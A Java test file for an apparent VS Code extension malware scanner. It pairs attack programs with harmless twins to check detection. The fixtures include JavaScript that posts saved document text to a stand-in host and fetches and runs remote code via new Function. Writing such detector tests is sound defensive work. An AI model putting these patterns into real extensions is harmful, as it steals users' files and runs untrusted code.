@@ -1,0 +1,130 @@
+package dev.vsxray.scanner.corpus;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.junit.jupiter.api.DynamicTest.dynamicTest;
+
+import dev.vsxray.scanner.Signatures;
+import dev.vsxray.scanner.analysis.PackageAnalyzer;
+import dev.vsxray.scanner.match.RuleMatcher;
+import java.io.IOException;
+import java.io.InputStream;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.List;
+import java.util.Map;
+import java.util.stream.Stream;
+import org.junit.jupiter.api.DynamicTest;
+import org.junit.jupiter.api.TestFactory;
+import org.junit.jupiter.api.io.TempDir;
+import org.snakeyaml.engine.v2.api.Load;
+import org.snakeyaml.engine.v2.api.LoadSettings;
+
+/**
+ * What can be taken, how it can be sent, how code can be brought and how it can be run, one small extension for each way: it is
+ * accused, and the same without the one thing that makes it an attack is not.
+ */
+class WaysOfAttackTest {
+
+    private static final String MODULES = """
+            const vscode = require('vscode'), https = require('https'), fs = require('fs'), os = require('os');
+            const path = require('path'), cp = require('child_process');
+            """;
+
+    private static final String POSTS = """
+            function post(data) {
+              const request = https.request({ hostname: 'far.example', method: 'POST', path: '/u' });
+              request.end(typeof data === 'string' ? data : JSON.stringify(data));
+            }
+            """;
+
+    private static final String COUNTS = "function post(data) { console.log(String(data).length); }\n";
+
+    private static final String FETCHED = "const t = await (await fetch('https://far.example/s')).text();\n";
+
+    private static final String OWN = "const t = '1';\n";
+
+    private final PackageAnalyzer analyzer;
+    private final RuleMatcher matcher;
+
+    @TempDir
+    private Path scratch;
+
+    WaysOfAttackTest() {
+        Signatures signatures = Signatures.load(List.of());
+        this.analyzer = signatures.analyzer();
+        this.matcher = signatures.matcher();
+    }
+
+    @TestFactory
+    Stream<DynamicTest> sources() throws IOException {
+        return ways("sources")
+                .map(way -> tell(way, MODULES + POSTS + atStart(way.in()), MODULES + COUNTS + atStart(way.in())));
+    }
+
+    @TestFactory
+    Stream<DynamicTest> senders() throws IOException {
+        return ways("senders")
+                .map(way -> tell(
+                        way,
+                        MODULES + way.before() + onSaving("d.getText()", way.in()),
+                        MODULES + way.before() + onSaving("'plain'", way.in())));
+    }
+
+    @TestFactory
+    Stream<DynamicTest> loaders() throws IOException {
+        return ways("loaders")
+                .map(way -> tell(way, MODULES + atStart(FETCHED + way.in()), MODULES + atStart(OWN + way.in())));
+    }
+
+    @TestFactory
+    Stream<DynamicTest> bringers() throws IOException {
+        return ways("bringers")
+                .map(way -> tell(
+                        way,
+                        MODULES + atStart(way.in().replace("RUN(x)", "new Function('require', x)(require)")),
+                        MODULES + atStart(way.in().replace("RUN(x)", "console.log(x)"))));
+    }
+
+    private static String atStart(String body) {
+        return "exports.activate = async ctx => {\n" + body + "\n};\n";
+    }
+
+    private static String onSaving(String text, String body) {
+        return "exports.activate = ctx => ctx.subscriptions.push(vscode.workspace.onDidSaveTextDocument(async d => {\n"
+                + "const t = " + text + ";\n" + body + "\n}));\n";
+    }
+
+    private DynamicTest tell(Way way, String attack, String innocent) {
+        return dynamicTest(way.name(), () -> {
+            assertThat(isAccused(way.name(), attack)).as("attack").isTrue();
+            assertThat(isAccused(way.name(), innocent)).as("innocent").isEqualTo(way.alone());
+        });
+    }
+
+    private boolean isAccused(String name, String program) throws IOException {
+        Path folder = Files.createTempDirectory(scratch, "way");
+        Files.writeString(folder.resolve("extension.js"), program);
+        Files.writeString(folder.resolve("package.json"), """
+                {"publisher": "acme", "name": "way", "version": "1.0.0", "main": "./extension.js",
+                 "engines": {"vscode": "^1.90.0"}, "activationEvents": ["onStartupFinished"]}
+                """);
+        return DetectionRates.isAlarm(folder, analyzer, matcher);
+    }
+
+    @SuppressWarnings("unchecked") // The files beside the test hold lists of maps of texts, and of one switch.
+    private static Stream<Way> ways(String kind) throws IOException {
+        try (InputStream file = WaysOfAttackTest.class.getResourceAsStream(kind + ".yaml")) {
+            var list =
+                    (List<Map<String, Object>>) new Load(LoadSettings.builder().build()).loadFromInputStream(file);
+            return list.stream()
+                    .map(entry -> new Way(
+                            (String) entry.get("name"),
+                            Boolean.TRUE.equals(entry.get("alone")),
+                            (String) entry.getOrDefault("before", ""),
+                            (String) entry.get("in")));
+        }
+    }
+
+    /** @param alone whether it is an alarm even without what makes the others one */
+    private record Way(String name, boolean alone, String before, String in) {}
+}
